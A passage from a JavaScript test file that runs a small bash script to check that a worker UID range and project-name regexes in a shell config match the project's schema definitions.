        const script = `. "$1"; shift; echo "$worker_uid_min $worker_uid_max"; for n; do m=0 w=0; [[ $n =~ $project_name_re ]] && m=1; [[ cc-$n =~ $worker_name_re ]] && w=1; echo "$m$w"; done`;
        const { stdout } = await run("bash", ["-c", script, "workers", file, ...names]);
        return stdout.trim().split("\n");
    };

    test("its uid range is projectUid's, and its names are the schema's project names", async () => {
        const [range, ...matches] = await guest();
        expect(range).toBe(`${projectUidBase} ${projectUidBase + projectUidSlots - 1}`);
        expect(matches).toEqual(names.map((n) => (formats["project-name"].test(n) ? "11" : "00")));
    });
});
